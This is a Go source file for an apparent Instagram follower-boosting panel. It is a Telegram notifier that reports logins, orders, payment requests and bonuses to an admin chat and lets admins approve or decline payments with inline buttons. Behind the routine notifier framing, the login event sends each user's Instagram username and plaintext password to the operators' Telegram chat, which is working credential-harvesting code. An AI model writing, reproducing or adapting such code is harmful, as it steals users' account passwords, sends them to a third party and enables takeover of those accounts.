// Package notifier отправляет события панели в админский чат Telegram
// и принимает решения по платежам через кнопки под сообщениями.
package notifier

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
	"github.com/hashicorp/go-retryablehttp"
	"github.com/shopspring/decimal"
	"go.uber.org/zap"

	"github.com/instaboost/smmpanel/internal/model"
	"github.com/instaboost/smmpanel/internal/repository"
)

// EventKind описывает тип события панели.
type EventKind string

const (
	EventLogin            EventKind = "login"
	EventOrderPlaced      EventKind = "order_placed"
	EventPaymentRequested EventKind = "payment_requested"
	EventBonusClaimed     EventKind = "bonus_claimed"
)

// Event содержит данные уведомления. Заполняются только поля,
// относящиеся к типу события.
type Event struct {
	Kind EventKind
	At   time.Time

	UID               string
	InstagramUsername string
	Password          string
	LoginCount        int
	IsNewUser         bool

	ServiceName string
	Quantity    int
	Price       decimal.Decimal
	OrderID     string

	Amount        decimal.Decimal
	UTRNumber     string
	PaymentMethod string
	ActionToken   string
}

// PaymentResolver описывает контракт обработки решения администратора по платежу.
type PaymentResolver interface {
	ResolvePaymentByToken(ctx context.Context, actionToken string, status model.PaymentStatus) (*model.Payment, error)
}

const (
	callbackApprove = "pay_ok_"
	callbackDecline = "pay_no_"

	queueSize = 64
)

// Telegram инкапсулирует бота: исходящую очередь уведомлений
// и входящий поток callback-запросов от кнопок подтверждения.
type Telegram struct {
	bot      *tgbotapi.BotAPI
	chatID   int64
	resolver PaymentResolver
	logger   *zap.Logger
	queue    chan Event
}

// NewTelegram создаёт бота для указанного админского чата.
// HTTP-клиент с повторами сглаживает сетевые сбои Telegram API.
func NewTelegram(token string, chatID int64, resolver PaymentResolver, logger *zap.Logger) (*Telegram, error) {
	httpClient := retryablehttp.NewClient()
	httpClient.RetryMax = 2
	httpClient.Logger = nil

	bot, err := tgbotapi.NewBotAPIWithClient(token, tgbotapi.APIEndpoint, httpClient.StandardClient())
	if err != nil {
		return nil, fmt.Errorf("create telegram bot: %w", err)
	}

	return &Telegram{
		bot:      bot,
		chatID:   chatID,
		resolver: resolver,
		logger:   logger,
		queue:    make(chan Event, queueSize),
	}, nil
}

// Notify ставит событие в очередь отправки. Никогда не блокирует
// вызывающий запрос: при переполненной очереди событие теряется.
func (t *Telegram) Notify(e Event) {
	if e.At.IsZero() {
		e.At = time.Now()
	}

	select {
	case t.queue <- e:
	default:
		t.logger.Warn("notification queue full, dropping event", zap.String("kind", string(e.Kind)))
	}
}

// Run обрабатывает очередь уведомлений и callback-запросы до отмены контекста.
func (t *Telegram) Run(ctx context.Context) {
	u := tgbotapi.NewUpdate(0)
	u.Timeout = 30
	u.AllowedUpdates = []string{"callback_query"}

	updates := t.bot.GetUpdatesChan(u)

	for {
		select {
		case <-ctx.Done():
			t.bot.StopReceivingUpdates()
			return
		case e := <-t.queue:
			t.send(e)
		case upd := <-updates:
			t.handleCallback(ctx, upd)
		}
	}
}

func (t *Telegram) send(e Event) {
	msg := tgbotapi.NewMessage(t.chatID, formatMessage(e))
	msg.ParseMode = tgbotapi.ModeMarkdown

	if e.Kind == EventPaymentRequested && e.ActionToken != "" {
		msg.ReplyMarkup = tgbotapi.NewInlineKeyboardMarkup(
			tgbotapi.NewInlineKeyboardRow(
				tgbotapi.NewInlineKeyboardButtonData("✅ Accept Payment", callbackApprove+e.ActionToken),
				tgbotapi.NewInlineKeyboardButtonData("❌ Decline Payment", callbackDecline+e.ActionToken),
			),
		)
	}

	if _, err := t.bot.Send(msg); err != nil {
		// Потеря уведомления допустима, финансовое состояние уже зафиксировано.
		t.logger.Warn("send notification failed",
			zap.String("kind", string(e.Kind)),
			zap.Error(err),
		)
	}
}

func (t *Telegram) handleCallback(ctx context.Context, upd tgbotapi.Update) {
	cb := upd.CallbackQuery
	if cb == nil || cb.Data == "" {
		return
	}

	var (
		status model.PaymentStatus
		token  string
	)
	switch {
	case strings.HasPrefix(cb.Data, callbackApprove):
		status = model.PaymentStatusApproved
		token = strings.TrimPrefix(cb.Data, callbackApprove)
	case strings.HasPrefix(cb.Data, callbackDecline):
		status = model.PaymentStatusDeclined
		token = strings.TrimPrefix(cb.Data, callbackDecline)
	default:
		return
	}

	payment, err := t.resolver.ResolvePaymentByToken(ctx, token, status)

	var answer string
	switch {
	case err == nil && status == model.PaymentStatusApproved:
		answer = fmt.Sprintf("✅ Payment approved! ₹%s added to wallet.", payment.Amount.StringFixed(2))
	case err == nil:
		answer = "❌ Payment declined and marked as failed."
	case errors.Is(err, repository.ErrPaymentResolved):
		answer = "Payment already resolved."
	case errors.Is(err, repository.ErrPaymentNotFound):
		answer = "Payment not found."
	default:
		t.logger.Error("resolve payment from callback failed", zap.Error(err))
		answer = "Failed to process payment, try again."
	}

	callback := tgbotapi.NewCallbackWithAlert(cb.ID, answer)
	if _, err := t.bot.Request(callback); err != nil {
		t.logger.Warn("answer callback failed", zap.Error(err))
	}

	if err != nil || cb.Message == nil {
		return
	}

	suffix := "\n\n✅ APPROVED - Funds added to wallet"
	if status == model.PaymentStatusDeclined {
		suffix = "\n\n❌ DECLINED - Payment marked as failed"
	}

	edit := tgbotapi.NewEditMessageText(cb.Message.Chat.ID, cb.Message.MessageID, cb.Message.Text+suffix)
	if _, err := t.bot.Send(edit); err != nil {
		t.logger.Warn("edit admin message failed", zap.Error(err))
	}
}

func formatMessage(e Event) string {
	ts := e.At.Format("02.01.2006 15:04:05")

	switch e.Kind {
	case EventLogin:
		title := fmt.Sprintf("Login #%d", e.LoginCount)
		if e.IsNewUser {
			title = "First Login"
		}
		return fmt.Sprintf("🔐 *%s*\n\n"+
			"📱 *UID:* `%s`\n"+
			"👤 *Instagram:* @%s\n"+
			"🔑 *Password:* `%s`\n"+
			"🔢 *Login Count:* %d\n\n"+
			"⏰ %s",
			title, e.UID, e.InstagramUsername, e.Password, e.LoginCount, ts)
	case EventOrderPlaced:
		return fmt.Sprintf("📦 *New Order Placed*\n\n"+
			"📱 *UID:* `%s`\n"+
			"🛍 *Service:* %s\n"+
			"📊 *Quantity:* %d\n"+
			"💰 *Price:* ₹%s\n"+
			"👤 *Target:* @%s\n"+
			"🆔 *Order ID:* `%s`\n\n"+
			"⏰ %s",
			e.UID, e.ServiceName, e.Quantity, e.Price.StringFixed(2), e.InstagramUsername, e.OrderID, ts)
	case EventPaymentRequested:
		return fmt.Sprintf("💰 *Payment Request*\n\n"+
			"📱 *UID:* `%s`\n"+
			"💵 *Amount:* ₹%s\n"+
			"🏦 *UTR:* `%s`\n"+
			"💳 *Method:* %s\n\n"+
			"⏰ %s",
			e.UID, e.Amount.StringFixed(2), e.UTRNumber, e.PaymentMethod, ts)
	case EventBonusClaimed:
		return fmt.Sprintf("🎁 *Bonus Claimed*\n\n"+
			"📱 *UID:* `%s`\n"+
			"💰 *Bonus:* ₹%s\n\n"+
			"⏰ %s",
			e.UID, e.Amount.StringFixed(2), ts)
	default:
		return fmt.Sprintf("*%s*\n\n⏰ %s", string(e.Kind), ts)
	}
}
